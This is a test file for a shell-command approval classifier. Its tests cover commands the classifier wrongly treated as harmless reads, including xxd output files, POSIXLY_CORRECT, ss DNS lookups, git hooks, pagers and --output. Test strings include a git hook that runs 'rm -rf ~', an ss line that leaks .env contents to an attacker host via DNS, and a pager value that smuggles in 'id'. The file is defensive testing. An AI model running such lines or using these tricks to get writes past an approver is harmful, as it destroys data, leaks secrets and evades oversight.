// Ways around the approver that the differential read fuzzer (test/fuzz/classify-read.fuzz.ts)
// found: lines the classifier called `read` (allowed silently) that the real bash, run under
// strace in a scene of tripwires, showed writing, looking names up or running a hook. Each
// row is first shown doing it for real (the control), then classified as what it is; each
// failed on the code before its fix. Plain reads beside them stay silent.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { classifyShell } from '../../main/core/classify/shell';

const c = (cmd: string) => classifyShell(cmd, '/repo');
const why = (cmd: string) => c(cmd).riskReasons.map((r) => r.reason).join(' | ');

/** Runs `script` with the real bash in a fresh directory holding a.txt; returns whether `created` exists afterwards. */
function bashCreates(script: string, created: string, env: Record<string, string> = {}): boolean {
  const dir = mkdtempSync(path.join(tmpdir(), 'airlock-fz-'));
  try {
    writeFileSync(path.join(dir, 'a.txt'), 'a\na\nb\n');
    execFileSync('bash', ['-c', script], { cwd: dir, env: { PATH: process.env.PATH, ...env }, stdio: 'ignore', timeout: 10_000 });
    return existsSync(path.join(dir, created));
  } catch {
    return existsSync(path.join(dir, created));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

test('xxd reads options only before its input file: in `xxd -u a.txt -bits`, -bits is the output file it creates', () => {
  assert.ok(bashCreates('xxd -u a.txt -bits', '-bits'), 'control: real xxd did not create -bits');
  for (const cmd of ['xxd -u a.txt -bits', 'xxd -capitalize . -bits', 'xxd a.txt -ps', 'xxd -c 8 a.txt -include']) {
    assert.equal(c(cmd).action, 'write', cmd);
    assert.match(why(cmd), /second file: xxd writes its output there/, cmd);
  }
  for (const cmd of ['xxd a.txt', 'xxd -u -c 8 a.txt', 'xxd -ps a.txt', 'xxd -- -bits']) assert.equal(c(cmd).action, 'read', cmd);
});

test('POSIXLY_CORRECT makes GNU programs stop reading options at the first file: POSIXLY_CORRECT=1 uniq a.txt -c writes a file named -c', () => {
  assert.ok(bashCreates('POSIXLY_CORRECT=1 uniq a.txt -c', '-c'), 'control: uniq did not create -c');
  assert.ok(!bashCreates('uniq a.txt -c', '-c'), 'control: without it, -c is an option');
  for (const cmd of ['POSIXLY_CORRECT=1 uniq a.txt -c', 'POSIXLY_CORRECT=1 cat a.txt', 'env POSIXLY_CORRECT=1 uniq a.txt -c', 'POSIXLY_CORRECT=; uniq a.txt -d']) {
    assert.notEqual(c(cmd).action, 'read', cmd);
    assert.match(why(cmd), /POSIXLY_CORRECT/, cmd);
  }
  for (const cmd of ['uniq a.txt -c', 'LC_ALL=C uniq -c a.txt', 'TZ=UTC date']) assert.equal(c(cmd).action, 'read', cmd);
});

test('ss FILTER resolves a host name in its filter through DNS (ss x.example sent the name to the resolver): a transfer, as getent hosts is', () => {
  for (const cmd of ['ss x.example', 'ss dst secret.attacker.example', 'ss state established dst host:22', 'ss --memory . --processes']) {
    assert.equal(c(cmd).action, 'transfer', cmd);
    assert.match(why(cmd), /ss looks .* up through DNS/, cmd);
  }
  for (const cmd of ['ss -tn dst "$h"', 'ss -t src $(cat .env).attacker.example']) assert.notEqual(c(cmd).action, 'read', cmd);
  for (const cmd of ['ss', 'ss -tlnp', 'ss state established', 'ss dst 10.0.0.1:22', 'ss dport = :ssh', 'ss -t src 127.0.0.1 and dport gt :1024', 'ss dev eth0', 'ss -s']) assert.equal(c(cmd).action, 'read', cmd);
});

/** A throwaway repository with a.txt committed, and the environment git ran in (no user or system config). */
function committedRepo(): { dir: string; env: NodeJS.ProcessEnv } {
  const dir = mkdtempSync(path.join(tmpdir(), 'airlock-fz-git-'));
  const env = { PATH: process.env.PATH, HOME: dir, GIT_CONFIG_NOSYSTEM: '1', GIT_AUTHOR_NAME: 'a', GIT_AUTHOR_EMAIL: 'a@b', GIT_COMMITTER_NAME: 'a', GIT_COMMITTER_EMAIL: 'a@b' };
  const git = (...args: string[]) => execFileSync('git', args, { cwd: dir, env, stdio: 'ignore' });
  git('init', '-q');
  writeFileSync(path.join(dir, 'a.txt'), 'a\n');
  git('add', 'a.txt');
  git('commit', '-qm', 'x');
  return { dir, env };
}

test('git runs post-index-change whenever it refreshes the index, so git status after writing a hook in the same line runs that hook (critical)', () => {
  const { dir, env } = committedRepo();
  try {
    writeFileSync(path.join(dir, '.git/hooks/post-index-change'), '#!/bin/sh\n: > ran\n');
    chmodSync(path.join(dir, '.git/hooks/post-index-change'), 0o755);
    execFileSync('bash', ['-c', 'touch a.txt; git status'], { cwd: dir, env, stdio: 'ignore' });
    assert.ok(existsSync(path.join(dir, 'ran')), 'control: git status did not run post-index-change');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
  for (const cmd of ['printf "#!/bin/sh\\nrm -rf ~\\n" > .git/hooks/post-index-change; chmod +x .git/hooks/post-index-change; git status', 'cp x .git/hooks/post-index-change && git describe --dirty']) {
    assert.equal(c(cmd).riskReasons.some((r) => r.level === 'critical' && /writes a git hook .* and runs git in the same command/.test(r.reason)), true, `${cmd}: ${why(cmd)}`);
  }
  assert.equal(c('git status').action, 'read');
});

test('prompt economy: a pager switched off (GIT_PAGER=cat git log, PAGER= man ls) stays a read; any other pager asks', () => {
  for (const cmd of ['GIT_PAGER=cat git log -3', 'PAGER=cat git log', 'GIT_PAGER= git diff --stat', 'MANPAGER=cat man ls', 'PAGER=/usr/bin/cat git show HEAD', 'PAGER=cat; git log']) assert.equal(c(cmd).action, 'read', cmd);
  for (const cmd of ['GIT_PAGER=./cat git log', 'PAGER=less git log', "GIT_PAGER='cat; id' git log", 'PAGER="$p" git log', 'PAGER=cat PATH=. git log', 'GIT_PAGER=cat git -p log', 'PAGER=/tmp/cat git log']) assert.notEqual(c(cmd).action, 'read', cmd);
});

test('prompt economy: git branch/tag filters that come last default to HEAD (git branch -a --merged lists, it was a branch write)', () => {
  for (const cmd of ['git branch -a --merged', 'git branch --no-merged', 'git branch -r --contains', 'git tag --contains', 'git tag -l --points-at', 'git branch --merged main']) assert.equal(c(cmd).action, 'read', cmd);
  for (const cmd of ['git branch x --merged', 'git branch --merged x y', 'git tag v1 --contains', 'git branch -D x --merged', 'git branch "$x" --merged']) assert.notEqual(c(cmd).action, 'read', cmd);
});

test('an option whose value is optional takes only an attached value: git diff --unified --output=out writes out (it hid --output), as journalctl -n --cursor-file=F would', () => {
  const { dir, env } = committedRepo();
  try {
    writeFileSync(path.join(dir, 'a.txt'), 'b\n');
    execFileSync('bash', ['-c', 'git diff --unified --output=out'], { cwd: dir, env, stdio: 'ignore' });
    assert.ok(existsSync(path.join(dir, 'out')), 'control: git diff --unified --output=out did not write out');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
  for (const cmd of ['git diff --unified --output=out', 'git log -p --unified --output=out', 'git show --unified --output=x HEAD']) {
    assert.equal(c(cmd).action, 'write', cmd);
    assert.match(why(cmd), /--output writes its output to a file/, cmd);
  }
  // systemd's journalctl reads -n and --case-sensitive with getopt's optional_argument.
  for (const cmd of ['journalctl -n --cursor-file=out', 'journalctl --case-sensitive --cursor-file=out -n1']) assert.notEqual(c(cmd).action, 'read', cmd);
  for (const cmd of ['git diff --unified=5', 'git diff -U5', 'journalctl -n 20', 'journalctl -u ssh --since today -n 50 --no-pager', 'journalctl --case-sensitive=false -g x']) assert.equal(c(cmd).action, 'read', cmd);
});

test('an option word after a value-taking option is never swallowed as its value: git log --format --output=out wrote out (git takes --format only as --format=…)', () => {
  const { dir, env } = committedRepo();
  try {
    for (const [i, line] of ['git log HEAD --format --output=out0', 'git show HEAD --min-parents --output=out1', 'git rev-list HEAD -L --output=out2', 'git diff HEAD --orderfile --output=out3'].entries()) {
      // git then fails on the option it does not know, but it has already created (or
      // truncated: --output=important.txt empties it) the output file.
      spawnSync('bash', ['-c', line], { cwd: dir, env, stdio: 'ignore' });
      assert.ok(existsSync(path.join(dir, `out${i}`)), `control: ${line} did not write out${i}`);
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
  // Every one the sweep of "value option, then a write option" found (26 lines), a sample:
  for (const cmd of ['git log HEAD --format --output=out', 'git whatchanged HEAD --max-parents --output=out', 'git show HEAD --min-parents --output=out', 'git shortlog HEAD --committer --output=out', 'git rev-list HEAD -L --output=out', 'git rev-list HEAD --decorate-refs --output=out', 'git diff-index HEAD --orderfile --output=out', 'journalctl a.txt -M --output=out']) {
    assert.notEqual(c(cmd).action, 'read', cmd);
    assert.match(why(cmd), /followed by --output=out \(an option, or its value\?\)/, cmd);
  }
  for (const cmd of ['git log --format=%H', "git log --format '%h %s'", 'git log -n -1', 'head -n -5 a.txt', 'grep -e -foo a.txt', 'xxd -s -16 a.txt', 'grep --regexp=-x a.txt', 'sort -k -1 a.txt']) assert.equal(c(cmd).action, 'read', cmd);
});

test('man -u (--update) rebuilds the index cache under /var/cache/man: a write, not a read (read fuzzer, seed 101: man -u -K … chowned /var/cache/man/CACHEDIR.TAG)', () => {
  for (const cmd of ['man -u ls', 'man --update ls', 'man -u -K x', 'man -uK x']) assert.notEqual(c(cmd).action, 'read', cmd);
  for (const cmd of ['man ls', 'man -k printf', 'man -K x']) assert.equal(c(cmd).action, 'read', cmd);
});
